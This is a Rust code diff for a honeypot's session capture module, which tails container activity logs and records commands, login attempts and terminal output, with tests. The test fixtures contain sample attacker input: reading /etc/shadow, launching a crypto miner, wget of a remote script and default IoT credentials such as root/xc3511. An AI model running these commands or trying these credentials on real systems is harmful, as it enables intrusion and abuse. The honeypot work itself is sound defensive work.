@@ -1,13 +1,36 @@
-use std::io::BufRead;
-use std::io::{self, Read};
-use std::sync::Mutex;
+//! Stdio capture: the streams of a session parsed from its container activity log.
+//!
+//! The services of a container write what the client types and reads to a unified
+//! activity log (see `ContainerHandle::activity_log`). [`StdioCapture::stream_activity_log`]
+//! tails it for the whole session, so that long interactive sessions are recorded
+//! as they go, and [`StdioCapture::capture_activity_log_from_path`] consumes what is
+//! left once the session ends. What the services write to the terminal of their
+//! container is also appended to stdout as it is read from the PTY, control
+//! characters and timing included, see [`StdioCapture::stream_pty`]. Each stream is
+//! kept up to [`MAX_STREAM_LEN`] bytes, [spooled](super::spool) to disk past a
+//! threshold.
 
-use chrono::{DateTime, Utc};
-use log::{debug, trace, warn};
+use std::io::{self, BufRead, Seek, SeekFrom};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use chrono::{DateTime, NaiveDateTime, Utc};
+use serde::Deserialize;
+use tokio::sync::broadcast::{self, error::RecvError};
+use tracing::{debug, info, trace, warn};
 use uuid::Uuid;
 
-use super::types::StdioStream;
+use super::credential_capture;
+use super::spool::{Spool, SpoolSettings};
+use super::types::{LiveFeed, LoginAttempt, PtyChunk, StdioStream};
 use crate::error_handling::types::CaptureError;
+use crate::events::{self, Event};
+use crate::storage::types::{ExecutedCommand, ExitHint};
+
+/// Bytes kept per stream, the rest of a longer session being dropped
+pub const MAX_STREAM_LEN: usize = 8 * 1024 * 1024;
+/// How often a tailed activity log is checked for new lines
+const TAIL_INTERVAL: Duration = Duration::from_millis(500);
 
 type StdioTimestamps = Vec<(DateTime<Utc>, StdioStream, usize)>;
 type StdioArtifacts = (Vec<u8>, Vec<u8>, Vec<u8>, StdioTimestamps);
@@ -15,10 +38,31 @@ type StdioArtifacts = (Vec<u8>, Vec<u8>, Vec<u8>, StdioTimestamps);
 #[derive(Debug)]
 pub struct StdioCapture {
     pub(crate) session_id: Uuid,
-    pub(crate) stdin_data: Mutex<Vec<u8>>,
-    pub(crate) stdout_data: Mutex<Vec<u8>>,
-    pub(crate) stderr_data: Mutex<Vec<u8>>,
+    pub(crate) stdin_data: Mutex<Spool>,
+    pub(crate) stdout_data: Mutex<Spool>,
+    pub(crate) stderr_data: Mutex<Spool>,
     pub(crate) timestamps: Mutex<StdioTimestamps>,
+    /// Login attempts, kept apart from the commands typed once logged in
+    pub(crate) login_attempts: Mutex<Vec<LoginAttempt>>,
+    /// Command timeline, with hints from the output following each command
+    pub(crate) commands: Mutex<Vec<ExecutedCommand>>,
+    /// Offset of the activity log past the lines consumed by previous parses
+    pub(crate) log_offset: Mutex<u64>,
+    /// Bytes dropped once a stream reached [`MAX_STREAM_LEN`]
+    pub(crate) dropped_bytes: Mutex<usize>,
+    /// Sends the recorded chunks to the watchers of the session
+    pub(crate) live: LiveFeed,
+}
+
+/// Content of a `[LOGIN]` activity log line
+#[derive(Deserialize)]
+struct LoginLine {
+    username: String,
+    /// Null when the client never sent it in clear, e.g. a MySQL scramble
+    #[serde(default)]
+    password: Option<String>,
+    #[serde(default)]
+    accepted: Option<bool>,
 }
 
 impl StdioCapture {
@@ -26,44 +70,73 @@ impl StdioCapture {
         debug!("Stdio capture created for session {}", session_id);
         Self {
             session_id,
-            stdin_data: Mutex::new(Vec::new()),
-            stdout_data: Mutex::new(Vec::new()),
-            stderr_data: Mutex::new(Vec::new()),
+            stdin_data: Mutex::new(Spool::in_memory()),
+            stdout_data: Mutex::new(Spool::in_memory()),
+            stderr_data: Mutex::new(Spool::in_memory()),
             timestamps: Mutex::new(Vec::new()),
+            login_attempts: Mutex::new(Vec::new()),
+            commands: Mutex::new(Vec::new()),
+            log_offset: Mutex::new(0),
+            dropped_bytes: Mutex::new(0),
+            live: LiveFeed::new(),
         }
     }
 
-    pub fn capture_pty(&self, mut pty_master: std::fs::File) -> Result<(), CaptureError> {
-        debug!("Starting PTY capture for session {}", self.session_id);
-        let mut buf = [0u8; 4096];
-        match pty_master.read(&mut buf) {
-            Ok(0) => {
-                trace!("PTY read returned EOF for session {}", self.session_id);
-            }
-            Ok(n) => {
-                self.stdout_data
-                    .lock()
-                    .unwrap()
-                    .extend_from_slice(&buf[..n]);
-                self.timestamps
-                    .lock()
-                    .unwrap()
-                    .push((Utc::now(), StdioStream::Stdout, n));
-
-                trace!("PTY capture: {} bytes from session {}", n, self.session_id);
-            }
-            Err(e) if e.kind() == io::ErrorKind::WouldBlock => {
-                trace!(
-                    "PTY not ready for session {} (would block)",
-                    self.session_id
+    /// Spools the three streams to disk as `settings` say, before any data was recorded.
+    pub fn with_spool(mut self, settings: &SpoolSettings) -> Self {
+        self.stdin_data = Mutex::new(Spool::new(settings, self.session_id, "stdin"));
+        self.stdout_data = Mutex::new(Spool::new(settings, self.session_id, "stdout"));
+        self.stderr_data = Mutex::new(Spool::new(settings, self.session_id, "stderr"));
+        self
+    }
+
+    /// Sends the recorded chunks to the watchers of `live`.
+    pub fn with_live_feed(mut self, live: LiveFeed) -> Self {
+        self.live = live;
+        self
+    }
+
+    /// Tails the activity log opened as `log`, parsing the lines the container
+    /// appends until the task is aborted.
+    ///
+    /// A line is only parsed once complete, the one being written is left to the
+    /// next check or to the parse that ends the session.
+    pub async fn stream_activity_log(self: Arc<Self>, mut log: std::fs::File) {
+        debug!("Tailing activity log of session {}", self.session_id);
+        loop {
+            if let Err(e) = self.consume_log(&mut log, false) {
+                warn!(
+                    "Stopped tailing the activity log of session {}: {}",
+                    self.session_id, e
                 );
+                return;
             }
-            Err(e) => {
-                warn!("PTY read error for session {}: {}", self.session_id, e);
-                return Err(CaptureError::StdioError(e));
+            tokio::time::sleep(TAIL_INTERVAL).await;
+        }
+    }
+
+    /// Appends the chunks read from the PTY of the container to stdout, each with
+    /// the time it was read, until the task is aborted or the PTY is closed.
+    pub async fn stream_pty(self: Arc<Self>, mut output: broadcast::Receiver<PtyChunk>) {
+        debug!("Recording the terminal of session {}", self.session_id);
+        loop {
+            match output.recv().await {
+                Ok(chunk) => {
+                    if self.append(StdioStream::Stdout, &chunk.data) {
+                        self.timestamps.lock().unwrap().push((
+                            chunk.timestamp,
+                            StdioStream::Stdout,
+                            chunk.data.len(),
+                        ));
+                    }
+                }
+                Err(RecvError::Lagged(missed)) => warn!(
+                    "[{}] {} terminal chunks missed, the recorder fell behind",
+                    self.session_id, missed
+                ),
+                Err(RecvError::Closed) => return,
             }
         }
-        Ok(())
     }
 
     /// Parse a unified container activity log file and split it into STDIN/STDOUT/STDERR streams.
@@ -76,9 +149,17 @@ impl StdioCapture {
     /// - "[YYYY-mm-dd HH:MM:SS UTC] [SSH-CMD] <text>" => mapped to STDIN
     /// - "[YYYY-mm-dd HH:MM:SS UTC] [SSH-OUTPUT] <text>" => mapped to STDOUT
     /// - "[YYYY-mm-dd HH:MM:SS UTC] [SSH-ERROR] <text>" => mapped to STDERR
+    /// - "[YYYY-mm-dd HH:MM:SS UTC] [TELNET] [LOGIN] {"username": .., "password": .., "accepted": ..}"
+    ///   (the password is null when the client never sent it in clear)
+    ///   => recorded as a [`LoginAttempt`], not as input
+    /// - "[YYYY-mm-dd HH:MM:SS UTC] [SSHD] Failed password for root from <ip> port <port> ssh2"
+    ///   => recorded as a [`LoginAttempt`] without password
     /// ```
     /// Other tags (e.g., SSHD, SSH-SESSION, SSH-EXIT, HTTP-INFO, HTTP-ERROR, HTTP-SERVER
     /// are ignored for byte streams.
+    ///
+    /// The log of a running container grows, so lines consumed by a previous call
+    /// are skipped.
     pub fn capture_activity_log_from_path<P: AsRef<std::path::Path>>(
         &self,
         path: P,
@@ -89,25 +170,39 @@ impl StdioCapture {
             self.session_id,
             path_ref.display()
         );
-        let file = std::fs::File::open(path_ref).map_err(CaptureError::StdioError)?;
-        let reader = std::io::BufReader::new(file);
-        let mut total_lines = 0usize;
-        for line_res in reader.lines() {
-            match line_res {
-                Ok(line) => {
-                    total_lines += 1;
-                    self.parse_activity_log_line(&line);
-                }
-                Err(e) => return Err(CaptureError::StdioError(e)),
-            }
-        }
+        let mut file = std::fs::File::open(path_ref).map_err(CaptureError::StdioError)?;
+        let lines = self
+            .consume_log(&mut file, true)
+            .map_err(CaptureError::StdioError)?;
         debug!(
-            "[{}] Parsed {} activity log lines",
-            self.session_id, total_lines
+            "[{}] Parsed {} new activity log lines",
+            self.session_id, lines
         );
         Ok(())
     }
 
+    /// Parses the lines of `log` past the consumed offset, returning how many. The
+    /// last line is consumed before its line break only when `partial` is set
+    fn consume_log(&self, log: &mut std::fs::File, partial: bool) -> io::Result<usize> {
+        let mut offset = self.log_offset.lock().unwrap();
+        log.seek(SeekFrom::Start(*offset))?;
+        let mut reader = io::BufReader::new(log);
+        let mut line = Vec::new();
+        let mut lines = 0;
+        loop {
+            line.clear();
+            let n = reader.read_until(b'\n', &mut line)?;
+            if n == 0 || (!partial && !line.ends_with(b"\n")) {
+                break;
+            }
+            *offset += n as u64;
+            lines += 1;
+            let text = String::from_utf8_lossy(&line);
+            self.parse_activity_log_line(text.trim_end_matches(['\n', '\r']));
+        }
+        Ok(lines)
+    }
+
     fn parse_activity_log_line(&self, line: &str) {
         // Skip header lines like === Container ...
         if line.starts_with("=== ") {
@@ -117,7 +212,14 @@ impl StdioCapture {
         // Expect format: [timestamp] [SERVICE] [STREAM] content
         let mut rest = line;
         // Strip leading [timestamp]
+        let logged_at;
         if let Some(close) = rest.find(']') {
+            logged_at = NaiveDateTime::parse_from_str(
+                rest[..close].trim_start_matches('['),
+                "%Y-%m-%d %H:%M:%S UTC",
+            )
+            .map(|t| t.and_utc())
+            .unwrap_or_else(|_| Utc::now());
             rest = rest[close + 1..].trim_start();
         } else {
             trace!(
@@ -146,6 +248,13 @@ impl StdioCapture {
         let service = &rest[1..service_end];
         rest = rest[service_end + 1..].trim_start();
 
+        if service == "SSHD" {
+            if let Some(attempt) = credential_capture::from_sshd_line(rest, logged_at) {
+                self.push_login(service, attempt);
+            }
+            return;
+        }
+
         // Second tag: [STREAM]
         if !rest.starts_with('[') {
             trace!(
@@ -165,6 +274,11 @@ impl StdioCapture {
         let stream_tag = &rest[1..stream_end];
         let content = rest[stream_end + 1..].trim_start();
 
+        if stream_tag == "LOGIN" {
+            self.record_login(service, content, logged_at);
+            return;
+        }
+
         let stream = match stream_tag {
             "STDIN" => Some(StdioStream::Stdin),
             "STDOUT" => Some(StdioStream::Stdout),
@@ -173,13 +287,19 @@ impl StdioCapture {
         };
 
         if let Some(s) = stream {
+            if s == StdioStream::Stdin && !content.trim().is_empty() {
+                events::emit(Event::CommandExecuted {
+                    session_id: self.session_id,
+                    source: service.to_string(),
+                    command: content.to_string(),
+                });
+            }
+            self.index_command(service, s, content, logged_at);
             let mut bytes = content.as_bytes().to_vec();
             bytes.push(b'\n');
             let n = bytes.len();
-            match s {
-                StdioStream::Stdin => self.stdin_data.lock().unwrap().extend_from_slice(&bytes),
-                StdioStream::Stdout => self.stdout_data.lock().unwrap().extend_from_slice(&bytes),
-                StdioStream::Stderr => self.stderr_data.lock().unwrap().extend_from_slice(&bytes),
+            if !self.append(s, &bytes) {
+                return;
             }
             self.timestamps.lock().unwrap().push((Utc::now(), s, n));
             trace!(
@@ -217,10 +337,141 @@ impl StdioCapture {
         }
     }
 
+    /// Appends `bytes` to `stream`, unless it would grow past [`MAX_STREAM_LEN`]
+    fn append(&self, stream: StdioStream, bytes: &[u8]) -> bool {
+        let mut data = match stream {
+            StdioStream::Stdin => self.stdin_data.lock().unwrap(),
+            StdioStream::Stdout => self.stdout_data.lock().unwrap(),
+            StdioStream::Stderr => self.stderr_data.lock().unwrap(),
+        };
+        if data.len() + bytes.len() > MAX_STREAM_LEN {
+            let mut dropped = self.dropped_bytes.lock().unwrap();
+            if *dropped == 0 {
+                warn!(
+                    "[{}] {:?} reached {} bytes, dropping the rest of the session",
+                    self.session_id, stream, MAX_STREAM_LEN
+                );
+            }
+            *dropped += bytes.len();
+            return false;
+        }
+        data.extend_from_slice(bytes);
+        self.live.publish(stream, bytes);
+        true
+    }
+
+    /// Parses the next activity log from its start, e.g. the one of a container
+    /// that replaced a stopped one
+    pub fn follow_new_log(&self) {
+        *self.log_offset.lock().unwrap() = 0;
+    }
+
+    /// Bytes dropped so far because a stream was full
+    pub fn dropped_bytes(&self) -> usize {
+        *self.dropped_bytes.lock().unwrap()
+    }
+
+    fn record_login(&self, service: &str, content: &str, timestamp: DateTime<Utc>) {
+        let line: LoginLine = match serde_json::from_str(content) {
+            Ok(line) => line,
+            Err(e) => {
+                warn!(
+                    "[{}] malformed login attempt for service [{}]: {}",
+                    self.session_id, service, e
+                );
+                return;
+            }
+        };
+        self.push_login(
+            service,
+            LoginAttempt {
+                timestamp: Some(timestamp),
+                username: line.username,
+                password: line.password,
+                accepted: line.accepted,
+            },
+        );
+    }
+
+    fn push_login(&self, service: &str, attempt: LoginAttempt) {
+        info!(
+            "[{}] [{}] login attempt as {:?} ({})",
+            self.session_id,
+            service,
+            attempt.username,
+            match attempt.accepted {
+                Some(true) => "accepted",
+                Some(false) => "rejected",
+                None => "unknown outcome",
+            }
+        );
+        self.login_attempts.lock().unwrap().push(attempt);
+    }
+
+    /// Adds a STDIN line to the command timeline, or an output line to the
+    /// command of the same service it follows
+    fn index_command(
+        &self,
+        service: &str,
+        stream: StdioStream,
+        content: &str,
+        timestamp: DateTime<Utc>,
+    ) {
+        let mut commands = self.commands.lock().unwrap();
+        let command = content.trim();
+        if stream == StdioStream::Stdin {
+            if command.is_empty() {
+                return;
+            }
+            // Wrapped binaries log their invocation again when run from the
+            // logging shell
+            if commands.last().is_some_and(|last| {
+                last.source == service && last.command == command && last.timestamp == timestamp
+            }) {
+                return;
+            }
+            commands.push(ExecutedCommand {
+                session_id: self.session_id,
+                timestamp,
+                source: service.to_string(),
+                command: command.to_string(),
+                stdout_lines: 0,
+                stderr_lines: 0,
+                exit_hint: None,
+            });
+            return;
+        }
+
+        let Some(last) = commands.iter_mut().rev().find(|c| c.source == service) else {
+            return;
+        };
+        if stream == StdioStream::Stdout {
+            last.stdout_lines += 1;
+            last.exit_hint.get_or_insert(ExitHint::Output);
+        } else {
+            last.stderr_lines += 1;
+            if content.contains("command not found") || content.ends_with(": not found") {
+                last.exit_hint = Some(ExitHint::NotFound);
+            } else if last.exit_hint != Some(ExitHint::NotFound) {
+                last.exit_hint = Some(ExitHint::Error);
+            }
+        }
+    }
+
+    /// Commands parsed so far, oldest first
+    pub fn commands(&self) -> Vec<ExecutedCommand> {
+        self.commands.lock().unwrap().clone()
+    }
+
+    /// Login attempts parsed so far, oldest first
+    pub fn login_attempts(&self) -> Vec<LoginAttempt> {
+        self.login_attempts.lock().unwrap().clone()
+    }
+
     pub fn get_artifacts(&self) -> StdioArtifacts {
-        let i = self.stdin_data.lock().unwrap().clone();
-        let o = self.stdout_data.lock().unwrap().clone();
-        let e = self.stderr_data.lock().unwrap().clone();
+        let i = self.stdin_data.lock().unwrap().contents();
+        let o = self.stdout_data.lock().unwrap().contents();
+        let e = self.stderr_data.lock().unwrap().contents();
         let t = self.timestamps.lock().unwrap().clone();
         (i, o, e, t)
     }
@@ -345,6 +596,12 @@ mod tests {
         // This sample contains no explicit STDERR lines
         assert!(stderr_s.is_empty());
         assert!(!ts.is_empty());
+
+        let attempts = cap.login_attempts();
+        assert_eq!(attempts.len(), 1);
+        assert_eq!(attempts[0].username, "miel");
+        assert_eq!(attempts[0].password, None);
+        assert_eq!(attempts[0].accepted, Some(true));
     }
 
     #[test]
@@ -375,4 +632,165 @@ mod tests {
         assert!(stderr_s.is_empty());
         assert!(!ts.is_empty());
     }
+
+    #[test]
+    fn commands_are_indexed_with_exit_hints() {
+        let log = r#"[2025-09-03 20:17:17 UTC] [SSH-SESSION] Interactive shell session started
+[2025-09-03 20:17:18 UTC] [SSH] [STDIN] ls
+[2025-09-03 20:17:18 UTC] [SSH] [STDIN] ls 
+[2025-09-03 20:17:18 UTC] [SSH] [STDOUT] total 0
+[2025-09-03 20:17:19 UTC] [SSH] [STDIN] cat /etc/shadow
+[2025-09-03 20:17:19 UTC] [SSH] [STDERR] cat: /etc/shadow: Permission denied
+[2025-09-03 20:17:20 UTC] [SSH] [STDIN] xmrig -o pool
+[2025-09-03 20:17:20 UTC] [SSH] [STDERR] -bash: xmrig: command not found
+[2025-09-03 20:17:22 UTC] [SSH] [STDIN] exit
+"#;
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("activity.log");
+        std::fs::write(&path, log).unwrap();
+
+        let cap = StdioCapture::new(Uuid::new_v4());
+        cap.capture_activity_log_from_path(&path).unwrap();
+
+        let commands = cap.commands();
+        let lines: Vec<&str> = commands.iter().map(|c| c.command.as_str()).collect();
+        assert_eq!(lines, ["ls", "cat /etc/shadow", "xmrig -o pool", "exit"]);
+        assert_eq!(commands[0].stdout_lines, 1);
+        assert_eq!(commands[0].exit_hint, Some(ExitHint::Output));
+        assert_eq!(commands[0].source, "SSH");
+        assert_eq!(
+            commands[0].timestamp.to_rfc3339(),
+            "2025-09-03T20:17:18+00:00"
+        );
+        assert_eq!(commands[1].stderr_lines, 1);
+        assert_eq!(commands[1].exit_hint, Some(ExitHint::Error));
+        assert_eq!(commands[2].exit_hint, Some(ExitHint::NotFound));
+        assert_eq!(commands[3].exit_hint, None);
+    }
+
+    #[test]
+    fn login_attempts_are_recorded_apart_from_commands() {
+        let _ = env_logger::builder().is_test(true).try_init();
+        let log = r#"[2025-09-03 20:40:01 UTC] [TELNET-INFO] Connection from 127.0.0.1
+[2025-09-03 20:40:03 UTC] [TELNET] [LOGIN] {"username": "root", "password": "xc3511", "accepted": false}
+[2025-09-03 20:40:05 UTC] [TELNET] [LOGIN] {"username": "admin", "password": "admin", "accepted": true}
+[2025-09-03 20:40:06 UTC] [MYSQL] [LOGIN] {"username": "sa", "password": null, "accepted": false}
+[2025-09-03 20:40:07 UTC] [TELNET] [STDIN] uname -a
+[2025-09-03 20:40:07 UTC] [TELNET] [LOGIN] not json
+"#;
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("telnet_activity.log");
+        std::fs::write(&path, log).unwrap();
+
+        let cap = StdioCapture::new(Uuid::new_v4());
+        cap.capture_activity_log_from_path(&path).unwrap();
+
+        let attempts = cap.login_attempts();
+        assert_eq!(attempts.len(), 3);
+        assert_eq!(attempts[0].username, "root");
+        assert_eq!(attempts[0].password.as_deref(), Some("xc3511"));
+        assert_eq!(attempts[0].accepted, Some(false));
+        assert_eq!(
+            attempts[0].timestamp.unwrap().to_rfc3339(),
+            "2025-09-03T20:40:03+00:00"
+        );
+        assert_eq!(attempts[1].accepted, Some(true));
+        assert_eq!(attempts[2].password, None);
+
+        let (stdin_b, _, _, _) = cap.get_artifacts();
+        assert_eq!(String::from_utf8_lossy(&stdin_b), "uname -a\n");
+
+        // Parsing the grown log again only consumes the new lines
+        let mut grown = log.to_string();
+        grown.push_str("[2025-09-03 20:40:09 UTC] [TELNET] [STDIN] id\n");
+        std::fs::write(&path, grown).unwrap();
+        cap.capture_activity_log_from_path(&path).unwrap();
+        assert_eq!(cap.login_attempts().len(), 3);
+        let (stdin_b, _, _, _) = cap.get_artifacts();
+        assert_eq!(String::from_utf8_lossy(&stdin_b), "uname -a\nid\n");
+    }
+
+    #[tokio::test(start_paused = true)]
+    async fn activity_log_is_streamed_line_by_line() {
+        use std::io::Write;
+
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("activity.log");
+        let mut writer = std::fs::File::create(&path).unwrap();
+        writer
+            .write_all(b"[2025-09-03 20:40:07 UTC] [SSH] [STDIN] uname -a\n[2025-09-03 20:40:08 UTC] [SSH] [STDIN] wge")
+            .unwrap();
+
+        let cap = Arc::new(StdioCapture::new(Uuid::new_v4()));
+        let task = tokio::spawn(
+            cap.clone()
+                .stream_activity_log(std::fs::File::open(&path).unwrap()),
+        );
+        tokio::time::sleep(TAIL_INTERVAL * 2).await;
+        let (stdin_b, _, _, _) = cap.get_artifacts();
+        assert_eq!(String::from_utf8_lossy(&stdin_b), "uname -a\n");
+
+        writer.write_all(b"t http://203.0.113.5/x.sh\n").unwrap();
+        tokio::time::sleep(TAIL_INTERVAL * 2).await;
+        task.abort();
+        let (stdin_b, _, _, _) = cap.get_artifacts();
+        assert_eq!(
+            String::from_utf8_lossy(&stdin_b),
+            "uname -a\nwget http://203.0.113.5/x.sh\n"
+        );
+        assert_eq!(cap.commands().len(), 2);
+
+        // The final parse only consumes what the task left
+        writer
+            .write_all(b"[2025-09-03 20:40:09 UTC] [SSH] [STDIN] exit")
+            .unwrap();
+        cap.capture_activity_log_from_path(&path).unwrap();
+        assert_eq!(cap.commands().len(), 3);
+    }
+
+    #[test]
+    fn streams_are_bounded() {
+        let cap = StdioCapture::new(Uuid::new_v4());
+        assert!(cap.append(StdioStream::Stdout, &vec![b'A'; MAX_STREAM_LEN]));
+        assert!(!cap.append(StdioStream::Stdout, b"more\n"));
+        assert!(cap.append(StdioStream::Stdin, b"ls\n"));
+        assert_eq!(cap.dropped_bytes(), 5);
+        let (stdin_b, stdout_b, _, _) = cap.get_artifacts();
+        assert_eq!(stdout_b.len(), MAX_STREAM_LEN);
+        assert_eq!(stdin_b, b"ls\n");
+    }
+
+    #[tokio::test]
+    async fn terminal_output_is_appended_to_stdout() {
+        let cap = Arc::new(StdioCapture::new(Uuid::new_v4()));
+        let (sender, output) = broadcast::channel(8);
+        let task = tokio::spawn(cap.clone().stream_pty(output));
+        let t0 = Utc::now();
+        for (offset, data) in [(0, &b"pass"[..]), (250, b"word: \x08\x1b[K\r\n")] {
+            sender
+                .send(PtyChunk {
+                    timestamp: t0 + chrono::Duration::milliseconds(offset),
+                    data: Arc::from(data),
+                })
+                .unwrap();
+        }
+        drop(sender);
+        task.await.unwrap();
+
+        let (_, stdout_b, _, timestamps) = cap.get_artifacts();
+        assert_eq!(stdout_b, b"password: \x08\x1b[K\r\n");
+        assert_eq!(
+            timestamps,
+            [
+                (t0, StdioStream::Stdout, 4),
+                (
+                    t0 + chrono::Duration::milliseconds(250),
+                    StdioStream::Stdout,
+                    12
+                )
+            ]
+        );
+    }
 }